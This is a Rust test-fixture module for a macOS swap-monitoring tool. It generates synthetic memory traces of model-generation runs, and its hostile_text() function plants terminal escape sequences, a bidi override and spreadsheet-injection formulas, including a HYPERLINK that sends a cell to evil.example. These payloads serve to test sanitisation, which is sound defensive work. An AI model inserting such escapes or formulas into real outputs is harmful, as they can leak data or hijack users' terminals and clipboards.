//! Synthetic traces built from the figures in docs/background.md (the seeds'
//! runs on a 48 GB Mac) and a long busy trace for benchmarks. They exercise
//! the detector and report the way a real recording would, without a Mac.

use crate::probe::{HostInfo, ProcessSample, Sample, SystemSample};
use crate::record::trace::{Event, Header, Mark, Record, Trace, TraceSample};
use crate::step::detect::DetectorConfig;
use crate::step::monitor::Monitor;

mod busy;
pub mod gguf;
pub use busy::{busy_samples_for, busy_trace, write_busy};

const GB: f64 = (1u64 << 30) as f64;
const PHYS_48: u64 = 48 << 30;

/// A value that changes linearly between key points `(seconds, value)`.
fn lerp(keys: &[(f64, f64)], t: f64) -> f64 {
    let Some(&(t0, v0)) = keys.first() else {
        return 0.0;
    };
    if t <= t0 {
        return v0;
    }
    for w in keys.windows(2) {
        let ((a, va), (b, vb)) = (w[0], w[1]);
        if t <= b {
            return if b > a {
                va + (vb - va) * (t - a) / (b - a)
            } else {
                vb
            };
        }
    }
    keys.last().map_or(0.0, |k| k.1)
}

/// One process's course over the run.
struct Course {
    pid: u32,
    name: &'static str,
    footprint_gb: Vec<(f64, f64)>,
    pageins_per_s: Vec<(f64, f64)>,
    watched: bool,
}

fn steady(pid: u32, name: &'static str, gb: f64) -> Course {
    Course {
        pid,
        name,
        footprint_gb: vec![(0.0, gb)],
        pageins_per_s: vec![(0.0, 0.0)],
        watched: false,
    }
}

/// The trace a run of [`emit`] writes, kept whole.
fn build(
    run: impl FnOnce(&mut dyn FnMut(Record) -> std::io::Result<()>) -> std::io::Result<()>,
) -> Trace {
    let mut trace = Trace::default();
    run(&mut |r| {
        match r {
            Record::Header(h) => trace.header = Some(h),
            Record::Sample(s) => trace.samples.push(s),
            Record::Flag(f) => trace.flags.push(f),
            Record::Event(e) => trace.events.push(e),
            Record::Mark(m) => trace.marks.push(m),
            Record::Counter(c) => trace.counters.push(c),
        }
        Ok(())
    })
    .expect("collecting never fails");
    trace
}

/// A trace sampled every 500 ms, flags included, as `record` would write it:
/// one record at a time, in file order (header, then each sample followed by
/// its flags), so that a large trace is written without being held.
fn emit(
    seconds: f64,
    courses: &[Course],
    swap_gb: &[(f64, f64)],
    used_gb: impl Fn(f64, f64) -> f64,
    command: &str,
    sink: &mut dyn FnMut(Record) -> std::io::Result<()>,
) -> std::io::Result<()> {
    let host = HostInfo {
        os: "macos".into(),
        phys_bytes: PHYS_48,
        page_size: 16384,
        hostname: "m5-pro".into(),
    };
    let mut header = Header::new(host, 500, 1_780_000_000_000);
    header.command = Some(command.split(' ').map(String::from).collect());
    header.watch_pid = courses.iter().find(|c| c.watched).map(|c| c.pid);
    header.top_n = 10;
    let mut monitor = Monitor::new(header.watch_pid, DetectorConfig::default());
    sink(Record::Header(header))?;
    let mut pageins = vec![0f64; courses.len()];
    // Swap written since boot: what swap held at the start, then every
    // byte it grew by (a page written once, never read back and written
    // again: the least wear there can be).
    let mut written: Option<(u64, u64)> = None;
    let steps = (seconds * 2.0) as u64;
    for i in 0..=steps {
        let t = i as f64 / 2.0;
        let mut processes = Vec::with_capacity(courses.len());
        let mut sum_gb = 0.0;
        for (c, n) in courses.iter().zip(pageins.iter_mut()) {
            let gb = lerp(&c.footprint_gb, t);
            sum_gb += gb;
            *n += lerp(&c.pageins_per_s, t) * 0.5;
            processes.push(ProcessSample {
                pid: c.pid,
                ppid: if c.watched { 800 } else { 1 },
                name: c.name.into(),
                footprint_bytes: (gb * GB) as u64,
                pageins: *n as u64,
                swap_bytes: None,
                start_time: 1_000 + u64::from(c.pid),
                readable: true,
                ..ProcessSample::default()
            });
        }
        let free_pct = (100.0 * (1.0 - used_gb(t, sum_gb) / 48.0)).clamp(1.0, 100.0);
        let swap_used = ((0.25 + lerp(swap_gb, t)) * GB) as u64;
        let (total, before) = written.unwrap_or((swap_used, swap_used));
        let total = total + swap_used.saturating_sub(before);
        written = Some((total, swap_used));
        let sample = Sample {
            t_ms: i * 500,
            system: SystemSample {
                phys_bytes: PHYS_48,
                free_pct,
                swap_used_bytes: swap_used,
                swap_total_bytes: 12 << 30,
                compressed_bytes: (1.5 * GB) as u64,
                page_size: 16384,
                swap_out_bytes: Some(total),
                ..SystemSample::default()
            },
            processes,
            scope: None,
        };
        let tick = monitor.step(sample);
        sink(Record::Sample(TraceSample {
            sample: tick.sample,
            watched: tick.watched,
            forecast: (!tick.forecast.is_empty()).then_some(tick.forecast),
        }))?;
        for f in tick.flags.iter() {
            sink(Record::Flag(f.clone()))?;
        }
    }
    Ok(())
}

fn bystanders() -> Vec<Course> {
    vec![
        steady(120, "WindowServer", 0.6),
        steady(300, "Safari", 1.5),
        // Big and idle: it must never be blamed for anyone's swap.
        steady(410, "Xcode", 3.0),
    ]
}

/// docs/background.md §2, eager (all on mps): 31–33 GiB through encode and denoise,
/// decode 32.5 → 43.6 GiB, swap +8 GiB at decode, stopped by the guard.
pub fn seed_eager() -> Trace {
    let mut courses = bystanders();
    courses.push(Course {
        pid: 4242,
        name: "python",
        footprint_gb: vec![
            (0.0, 0.3),
            (13.0, 31.0),
            (50.0, 33.0),
            (70.0, 31.5),
            (90.0, 32.5),
            (100.0, 43.6),
        ],
        pageins_per_s: vec![(0.0, 20.0), (92.0, 20.0), (93.0, 3000.0)],
        watched: true,
    });
    build(|sink| {
        emit(
            101.0,
            &courses,
            &[(0.0, 0.0), (93.0, 0.0), (100.0, 8.0), (101.0, 8.1)],
            |_, sum| sum + 1.5,
            "python generate.py --mode eager",
            sink,
        )
    })
}

/// docs/background.md §2, model CPU offload: footprint never above 18.5 GiB while
/// swap grew 3.5 GiB during denoise and reached +9.6 GiB at decode.
pub fn seed_offload() -> Trace {
    let mut courses = bystanders();
    courses.push(Course {
        pid: 4243,
        name: "python",
        footprint_gb: vec![
            (0.0, 0.3),
            (13.0, 16.3),
            (20.0, 18.5),
            (30.0, 14.0),
            (40.0, 18.5),
            (50.0, 14.0),
            (60.0, 18.5),
            (70.0, 14.0),
            (80.0, 18.5),
            (90.0, 15.0),
            (100.0, 18.0),
        ],
        pageins_per_s: vec![(0.0, 20.0), (19.0, 20.0), (20.0, 2500.0)],
        watched: true,
    });
    build(|sink| {
        emit(
            104.0,
            &courses,
            &[
                (0.0, 0.0),
                (20.0, 0.0),
                (90.0, 3.5),
                (100.0, 9.6),
                (104.0, 9.7),
            ],
            // The pipeline's 31.4 GiB is held whatever the footprint says.
            |t, _| lerp(&[(0.0, 6.0), (13.0, 37.4), (90.0, 40.0), (100.0, 47.0)], t),
            "python generate.py --mode offload",
            sink,
        )
    })
}

/// docs/background.md §2, staged: one big model at a time, peak 19.0 GiB, no swap,
/// free memory never below 51 %.
pub fn seed_staged() -> Trace {
    let mut courses = bystanders();
    courses.push(Course {
        pid: 4244,
        name: "python",
        footprint_gb: vec![
            (0.0, 0.3),
            (13.0, 19.0),
            (20.0, 19.0),
            (22.0, 16.2),
            (60.0, 18.6),
            (94.0, 18.6),
            (96.0, 14.4),
            (110.0, 14.4),
            (124.0, 0.3),
        ],
        pageins_per_s: vec![(0.0, 20.0)],
        watched: true,
    });
    build(|sink| {
        emit(
            124.0,
            &courses,
            &[(0.0, 0.0)],
            |_, sum| sum - 5.1 + 4.5,
            "python generate.py --mode staged",
            sink,
        )
    })
}

/// docs/background.md §1: a 4 GiB tensor on mps, moved to cpu (footprint falls to
/// 0.1 GiB, memory still held), then read on the cpu (4.2 GiB again).
pub fn seed_to_cpu() -> Trace {
    let mut courses = bystanders();
    courses.push(Course {
        pid: 4245,
        name: "python",
        footprint_gb: vec![
            (0.0, 0.1),
            (2.0, 0.1),
            (2.5, 4.2),
            (5.0, 4.2),
            (5.5, 0.1),
            (9.0, 0.1),
            (9.5, 4.2),
            (12.0, 4.2),
        ],
        pageins_per_s: vec![(0.0, 0.0)],
        watched: true,
    });
    build(|sink| {
        emit(
            12.0,
            &courses,
            &[(0.0, 0.0)],
            |t, _| {
                6.0 + 5.1
                    + 0.1
                    + if t >= 2.5 {
                        4.1
                    } else {
                        4.1 * ((t - 2.0) / 0.5).clamp(0.0, 1.0)
                    }
            },
            "python tensor_to_cpu.py",
            sink,
        )
    })
}

/// An OSC 52 clipboard write: a terminal that obeys it puts "evil" on the clipboard.
pub const CLIPBOARD: &str = "\u{1b}]52;c;ZXZpbA==\u{7}";
/// Clears the screen.
pub const CLEAR: &str = "\u{1b}[2J";
/// RIGHT-TO-LEFT OVERRIDE: `is_control` does not catch it.
pub const BIDI: char = '\u{202e}';
/// A spreadsheet formula that sends a cell to another site when opened.
pub const FORMULA: &str = "=HYPERLINK(\"http:evil.example?d=\"&A2,\"open\")";

/// The offload run as a crafted trace holds it (text from outside cleaned
/// once before it reaches a terminal, a CSV cell or a page): terminal escapes
/// ([`CLIPBOARD`], [`CLEAR`]) and a bidi override ([`BIDI`]) in the
/// hostname, the command, the watched process's name and command line, its
/// flags and an event; spreadsheet formulas ([`FORMULA`], `-2+3`,
/// `@SUM(A1)`) as other processes' names and a phase. Written as it is by
/// [`to_jsonl`]; the reader must clean every string of it.
pub fn hostile_text() -> Trace {
    let mut t = seed_offload();
    let python = format!("{CLIPBOARD}python{BIDI}yp.exe");
    if let Some(h) = t.header.as_mut() {
        h.host.hostname = format!("m5{CLEAR}{BIDI}orp");
        h.command = Some(vec![
            "python".into(),
            format!("{CLIPBOARD}generate.py"),
            format!("--mode{BIDI}"),
        ]);
    }
    for ts in &mut t.samples {
        for p in &mut ts.sample.processes {
            match p.pid {
                4243 => {
                    p.name = python.as_str().into();
                    p.cmdline = Some(format!("python {CLEAR}generate.py{BIDI}").into());
                }
                300 => p.name = FORMULA.into(),
                120 => p.name = "-2+3".into(),
                410 => p.name = "@SUM(A1)".into(),
                _ => {}
            }
        }
    }
    for f in &mut t.flags {
        if f.pid == 4243 {
            f.name.clone_from(&python);
        }
        f.message.push_str(CLEAR);
    }
    t.events.push(Event {
        t_ms: 0,
        kind: format!("command-start{CLEAR}"),
        message: format!("python {CLIPBOARD}{BIDI}"),
        pid: Some(4243),
        code: None,
    });
    t.marks.push(Mark {
        t_ms: 0,
        name: "=1+1".into(),
        end: false,
    });
    t
}

/// A counter point, as `swapsight counter` writes one.
pub fn counter(t_ms: u64, name: &str, value: f64, unit: &str) -> crate::record::trace::Counter {
    crate::record::trace::Counter {
        t_ms,
        name: name.into(),
        value,
        unit: unit.into(),
    }
}

/// Serialises a trace as JSON Lines (header first), as the writer would.
pub fn to_jsonl(trace: &Trace) -> Vec<u8> {
    let mut out = Vec::new();
    let mut push = |r: &Record| {
        serde_json::to_writer(&mut out, r).expect("records serialise");
        out.push(b'\n');
    };
    push(&Record::Header(trace.header().clone()));
    let mut flags = trace.flags.iter().peekable();
    for s in &trace.samples {
        push(&Record::Sample(s.clone()));
        while let Some(f) = flags.next_if(|f| f.t_ms <= s.sample.t_ms) {
            push(&Record::Flag(f.clone()));
        }
    }
    for e in &trace.events {
        push(&Record::Event(e.clone()));
    }
    for m in &trace.marks {
        push(&Record::Mark(m.clone()));
    }
    out
}

#[cfg(test)]
#[path = "synth_tests.rs"]
mod tests;

/// `n` ticks of [`crate::probe::scripted::ScriptedProbe::false_fit`],
/// `interval_ms` apart, stepped through a [`Monitor`] as the sampler steps
/// them (tests of the recording session, driven without a sampler thread).
pub fn scripted_ticks(n: u64, interval_ms: u64) -> Vec<crate::step::tick::Tick> {
    use crate::probe::Probe;
    let mut probe = crate::probe::scripted::ScriptedProbe::false_fit();
    let mut monitor = Monitor::new(None, DetectorConfig::default());
    (0..n)
        .map(|i| {
            let (system, processes) = probe.sample().expect("the script samples");
            monitor.step(Sample {
                t_ms: i * interval_ms,
                system,
                processes,
                scope: None,
            })
        })
        .collect()
}
